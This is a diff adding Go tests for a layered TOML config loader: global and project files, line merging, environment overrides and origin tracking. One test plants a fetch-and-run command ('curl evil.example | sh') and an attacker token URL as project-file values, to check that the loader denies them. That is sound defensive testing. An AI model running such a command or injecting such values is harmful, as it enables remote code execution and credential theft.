@@ -0,0 +1,353 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/BurntSushi/toml"
+)
+
+// writeLayers writes a global config and a project config in a nested
+// project directory, returning the global path and the nested directory.
+func writeLayers(t *testing.T, global, project string) (string, string) {
+	t.Helper()
+	root := t.TempDir()
+	globalPath := filepath.Join(root, "global.toml")
+	if err := os.WriteFile(globalPath, []byte(global), 0644); err != nil {
+		t.Fatalf("Failed to write global config: %v", err)
+	}
+
+	projectDir := filepath.Join(root, "repo")
+	nested := filepath.Join(projectDir, "src", "pkg")
+	if err := os.MkdirAll(nested, 0755); err != nil {
+		t.Fatalf("Failed to create project dir: %v", err)
+	}
+	if project != "" {
+		if err := os.WriteFile(filepath.Join(projectDir, ProjectConfigName), []byte(project), 0644); err != nil {
+			t.Fatalf("Failed to write project config: %v", err)
+		}
+	}
+	return globalPath, nested
+}
+
+const layersGlobal = `[general]
+separator = " :: "
+
+[usage]
+enabled = true
+limits_command = "get-limits"
+
+[[line]]
+  [[line.widget]]
+  name = "model"
+`
+
+func TestLoadLayered_GlobalAndProject(t *testing.T) {
+	globalPath, dir := writeLayers(t, layersGlobal, `[general]
+separator = " / "
+
+[[line]]
+  [[line.widget]]
+  name = "git"
+`)
+
+	l, err := LoadLayered(LoadOptions{GlobalPath: globalPath, Dir: dir})
+	if err != nil {
+		t.Fatalf("LoadLayered() error = %v", err)
+	}
+
+	if len(l.Files) != 2 {
+		t.Fatalf("Files = %v, want global and project", l.Files)
+	}
+	if l.Config.General.Separator != " / " {
+		t.Errorf("Separator = %q, want project value", l.Config.General.Separator)
+	}
+	if !l.Config.Usage.Enabled {
+		t.Error("usage.enabled from the global file should survive the project layer")
+	}
+	if got := l.Origin("general.separator"); !strings.HasSuffix(got, ProjectConfigName+":2") {
+		t.Errorf("Origin(general.separator) = %q, want project file line 2", got)
+	}
+	if got := l.Origin("usage.enabled"); got != globalPath+":5" {
+		t.Errorf("Origin(usage.enabled) = %q, want %s:5", got, globalPath)
+	}
+	// The global file has lines, so keys it leaves out are zeroed by it
+	if got := l.Origin("theme.name"); got != globalPath {
+		t.Errorf("Origin(theme.name) = %q, want %q", got, globalPath)
+	}
+
+	// Lines are replaced by default
+	if len(l.Config.Lines) != 1 || l.Config.Lines[0].Widgets[0].Name != "git" {
+		t.Errorf("Lines = %+v, want only the project line", l.Config.Lines)
+	}
+}
+
+func TestLoadLayered_LineMerge(t *testing.T) {
+	tests := []struct {
+		mode string
+		want []string
+	}{
+		{"replace", []string{"git"}},
+		{"append", []string{"model", "git"}},
+		{"prepend", []string{"git", "model"}},
+		{"bogus", []string{"git"}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.mode, func(t *testing.T) {
+			globalPath, dir := writeLayers(t, layersGlobal, `[general]
+line_merge = "`+tt.mode+`"
+
+[[line]]
+  [[line.widget]]
+  name = "git"
+`)
+
+			l, err := LoadLayered(LoadOptions{GlobalPath: globalPath, Dir: dir})
+			if err != nil {
+				t.Fatalf("LoadLayered() error = %v", err)
+			}
+
+			var got []string
+			for _, line := range l.Config.Lines {
+				got = append(got, line.Widgets[0].Name)
+			}
+			if strings.Join(got, ",") != strings.Join(tt.want, ",") {
+				t.Errorf("lines = %v, want %v", got, tt.want)
+			}
+			if len(l.LineOrigins) != len(l.Config.Lines) {
+				t.Errorf("LineOrigins = %v, want one per line", l.LineOrigins)
+			}
+			if hasWarning := len(l.Warnings) > 0; hasWarning != (tt.mode == "bogus") {
+				t.Errorf("Warnings = %v", l.Warnings)
+			}
+		})
+	}
+}
+
+func TestLoadLayered_ProjectDeniedKeys(t *testing.T) {
+	globalPath, dir := writeLayers(t, layersGlobal, `[usage]
+limits_command = "curl evil.example | sh"
+credential_source = "file"
+
+[auth]
+token_url = "https://evil.example/token"
+`)
+
+	l, err := LoadLayered(LoadOptions{GlobalPath: globalPath, Dir: dir})
+	if err != nil {
+		t.Fatalf("LoadLayered() error = %v", err)
+	}
+
+	if l.Config.Usage.LimitsCommand != "get-limits" {
+		t.Errorf("LimitsCommand = %q, project file must not override it", l.Config.Usage.LimitsCommand)
+	}
+	if l.Config.Auth.TokenURL != "" {
+		t.Errorf("TokenURL = %q, project file must not set it", l.Config.Auth.TokenURL)
+	}
+	if len(l.Warnings) != 3 {
+		t.Errorf("Warnings = %v, want 3", l.Warnings)
+	}
+}
+
+func TestLoadLayered_Env(t *testing.T) {
+	globalPath, dir := writeLayers(t, layersGlobal, "")
+
+	l, err := LoadLayered(LoadOptions{
+		GlobalPath: globalPath,
+		Dir:        dir,
+		Environ: []string{
+			"VISOR_USAGE_ENABLED=false",
+			"VISOR_USAGE_LIMIT_SOURCES=oauth, file",
+			"VISOR_THEME_COLORS_WARNING=#ff8800",
+			"VISOR_GENERAL_DEBUG=maybe",
+			"HOME=/home/test",
+		},
+	})
+	if err != nil {
+		t.Fatalf("LoadLayered() error = %v", err)
+	}
+
+	if l.Config.Usage.Enabled {
+		t.Error("VISOR_USAGE_ENABLED=false should override the global file")
+	}
+	if got := strings.Join(l.Config.Usage.LimitSources, ","); got != "oauth,file" {
+		t.Errorf("LimitSources = %q, want oauth,file", got)
+	}
+	if l.Config.Theme.Colors == nil || l.Config.Theme.Colors.Warning != "#ff8800" {
+		t.Errorf("Colors = %+v, want warning from env", l.Config.Theme.Colors)
+	}
+	if got := l.Origin("usage.enabled"); got != "env VISOR_USAGE_ENABLED" {
+		t.Errorf("Origin(usage.enabled) = %q", got)
+	}
+	if len(l.Warnings) != 1 || !strings.Contains(l.Warnings[0], "VISOR_GENERAL_DEBUG") {
+		t.Errorf("Warnings = %v, want one for VISOR_GENERAL_DEBUG", l.Warnings)
+	}
+}
+
+func TestLoadLayered_EnvConfigPath(t *testing.T) {
+	globalPath, _ := writeLayers(t, layersGlobal, "")
+
+	l, err := LoadLayered(LoadOptions{Environ: []string{EnvConfigPath + "=" + globalPath}})
+	if err != nil {
+		t.Fatalf("LoadLayered() error = %v", err)
+	}
+	if len(l.Files) != 1 || l.Files[0] != globalPath {
+		t.Errorf("Files = %v, want %s", l.Files, globalPath)
+	}
+	if l.Config.General.Separator != " :: " {
+		t.Errorf("Separator = %q, want global value", l.Config.General.Separator)
+	}
+}
+
+func TestLoadLayered_KeepsSettingsWithoutLines(t *testing.T) {
+	path := writeConfig(t, "[usage]\nenabled = true\n")
+
+	l, err := LoadLayered(LoadOptions{GlobalPath: path})
+	if err != nil {
+		t.Fatalf("LoadLayered() error = %v", err)
+	}
+	if !l.Config.Usage.Enabled {
+		t.Error("usage.enabled should be kept")
+	}
+	if len(l.Config.Lines) != len(DefaultConfig().Lines) {
+		t.Errorf("Lines = %d, want default lines", len(l.Config.Lines))
+	}
+}
+
+func TestLoadLayered_ZeroesKeysMissingWithLines(t *testing.T) {
+	path := writeConfig(t, "[[line]]\n  [[line.widget]]\n  name = \"model\"\n")
+
+	l, err := LoadLayered(LoadOptions{GlobalPath: path})
+	if err != nil {
+		t.Fatalf("LoadLayered() error = %v", err)
+	}
+	old, err := Load(path)
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	if l.Config.Usage.Enabled || l.Config.Usage.Enabled != old.Usage.Enabled {
+		t.Error("usage.enabled should stay off for a config with lines and no [usage]")
+	}
+	if l.Config.Theme.Name != old.Theme.Name {
+		t.Errorf("Theme.Name = %q, want %q as before layering", l.Config.Theme.Name, old.Theme.Name)
+	}
+	if got := l.Origin("usage.enabled"); got != path {
+		t.Errorf("Origin(usage.enabled) = %q, want %q", got, path)
+	}
+	if l.Config.General.Separator != DefaultSeparator {
+		t.Errorf("Separator = %q, want default", l.Config.General.Separator)
+	}
+}
+
+func TestLoadLayered_InvalidFile(t *testing.T) {
+	path := writeConfig(t, "[general\n")
+	if _, err := LoadLayered(LoadOptions{GlobalPath: path}); err == nil {
+		t.Error("LoadLayered() should fail on a syntax error")
+	}
+}
+
+func TestLayerFiles(t *testing.T) {
+	globalPath, dir := writeLayers(t, layersGlobal, "[general]\n")
+
+	files := LayerFiles(LoadOptions{GlobalPath: globalPath, Dir: dir})
+	if len(files) != 2 || files[0] != globalPath || filepath.Base(files[1]) != ProjectConfigName {
+		t.Errorf("LayerFiles() = %v", files)
+	}
+
+	missing := filepath.Join(t.TempDir(), "missing.toml")
+	if files := LayerFiles(LoadOptions{GlobalPath: missing}); len(files) != 0 {
+		t.Errorf("LayerFiles() = %v, want none", files)
+	}
+}
+
+func TestFindProjectConfig(t *testing.T) {
+	_, dir := writeLayers(t, layersGlobal, "[general]\n")
+
+	got := FindProjectConfig(dir)
+	want := filepath.Join(filepath.Dir(filepath.Dir(dir)), ProjectConfigName)
+	if got != want {
+		t.Errorf("FindProjectConfig() = %q, want %q", got, want)
+	}
+	if got := FindProjectConfig(""); got != "" {
+		t.Errorf("FindProjectConfig(\"\") = %q, want empty", got)
+	}
+}
+
+func TestWriteEffective(t *testing.T) {
+	globalPath, dir := writeLayers(t, layersGlobal, `[general]
+line_merge = "append"
+
+[[line]]
+  [[line.widget]]
+  name = "git"
+  [line.widget.extra]
+  show_dirty = "true"
+`)
+
+	l, err := LoadLayered(LoadOptions{
+		GlobalPath: globalPath,
+		Dir:        dir,
+		Environ:    []string{"VISOR_THEME_NAME=nord"},
+	})
+	if err != nil {
+		t.Fatalf("LoadLayered() error = %v", err)
+	}
+
+	var sb strings.Builder
+	if err := l.WriteEffective(&sb); err != nil {
+		t.Fatalf("WriteEffective() error = %v", err)
+	}
+	out := sb.String()
+
+	for _, want := range []string{
+		`separator = " :: "  # ` + globalPath + ":2",
+		`name = "nord"  # env VISOR_THEME_NAME`,
+		`powerline = false  # default`,
+		"[[line]]  # " + globalPath + ":8",
+		`show_dirty = "true"`,
+	} {
+		if !strings.Contains(out, want) {
+			t.Errorf("WriteEffective() missing %q in:\n%s", want, out)
+		}
+	}
+
+	// The output is itself a valid config
+	var cfg Config
+	if _, err := toml.Decode(out, &cfg); err != nil {
+		t.Errorf("WriteEffective() output does not parse: %v", err)
+	}
+	if len(cfg.Lines) != 2 {
+		t.Errorf("parsed %d lines, want 2", len(cfg.Lines))
+	}
+}
+
+func TestWriteEffective_EscapesStrings(t *testing.T) {
+	odd := "bell\a nul\x00 del\x7f tab\t \"q\" \\ é 🚀"
+	cfg := DefaultConfig()
+	cfg.General.Separator = odd
+	cfg.Lines = []Line{{Widgets: []WidgetConfig{{
+		Name:   "custom",
+		Format: odd,
+		Extra:  map[string]string{"my key": odd},
+	}}}}
+	l := &Layered{Config: cfg, LineOrigins: []string{OriginDefault}}
+
+	var sb strings.Builder
+	if err := l.WriteEffective(&sb); err != nil {
+		t.Fatalf("WriteEffective() error = %v", err)
+	}
+
+	var parsed Config
+	if _, err := toml.Decode(sb.String(), &parsed); err != nil {
+		t.Fatalf("WriteEffective() output does not parse: %v\n%s", err, sb.String())
+	}
+	if parsed.General.Separator != odd {
+		t.Errorf("separator = %q, want %q", parsed.General.Separator, odd)
+	}
+	if w := parsed.Lines[0].Widgets[0]; w.Format != odd || w.Extra["my key"] != odd {
+		t.Errorf("widget = %+v, want format and extra %q", w, odd)
+	}
+}